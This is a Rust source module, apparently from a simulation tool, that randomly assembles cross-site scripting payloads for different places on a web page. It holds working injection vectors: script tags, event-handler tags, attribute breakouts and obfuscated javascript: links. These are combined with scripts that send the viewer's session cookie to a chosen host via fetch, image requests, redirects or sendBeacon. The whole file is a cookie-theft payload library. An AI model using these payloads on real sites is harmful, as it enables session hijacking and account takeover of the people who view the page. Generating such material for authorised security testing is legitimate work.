//! Markup with script, for the places of a page where devices' texts stand.

use super::{fill, one_of};
use crate::sim::Draws;

/// Where on a page the text will stand.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Place {
    /// In an element.
    Element,
    /// In an attribute between quotation marks.
    Attribute,
    /// In the address of a link.
    Link,
    /// In an element that a script of the page writes: script elements would not run there.
    Written,
}

const ELEMENT: [&str; 6] = [
    "<script>{script}</script>",
    "<SCRIPT>{script}</SCRIPT>",
    "<img src=x{n} onerror=\"{script}\">",
    "<svg onload=\"{script}\">",
    "<details open ontoggle=\"{script}\">",
    "<iframe srcdoc=\"<script>{script}</script>\"></iframe>",
];
const WRITTEN: [&str; 4] = [
    "<img src=x{n} onerror=\"{script}\">",
    "<svg onload=\"{script}\">",
    "<details open ontoggle=\"{script}\">",
    "<iframe srcdoc=\"<script>{script}</script>\"></iframe>",
];
const ATTRIBUTE: [&str; 3] = [
    "\" onmouseover=\"{script}",
    "\" autofocus tabindex={n} onfocus=\"{script}\" x=\"",
    "\"><img src=x onerror=\"{script}\"><i x=\"",
];
const LINK: [&str; 3] = ["javascript:{script}", "JaVaScRiPt:{script}", " java\tscript:{script}"];
/// None uses a quotation mark of its own, so that each fits between double ones.
const SCRIPTS: [&str; 4] = [
    "fetch('//{host}/?c='+document.cookie)",
    "new Image().src='http://{host}/{n}?'+document.cookie",
    "document.location='https://{host}/?'+encodeURIComponent(document.cookie)",
    "navigator.sendBeacon('//{host}/{n}',document.cookie)",
];

/// Markup that sends the session of who looks at it to `host`.
#[must_use]
pub fn markup(place: Place, host: &str, draws: &mut Draws<'_>) -> String {
    let frames: &[&str] = match place {
        Place::Element => &ELEMENT,
        Place::Attribute => &ATTRIBUTE,
        Place::Link => &LINK,
        Place::Written => &WRITTEN,
    };
    let frame = one_of(draws, frames).unwrap_or_default();
    let script = one_of(draws, &SCRIPTS).unwrap_or_default();
    fill(&frame.replace("{script}", script), host, draws)
}
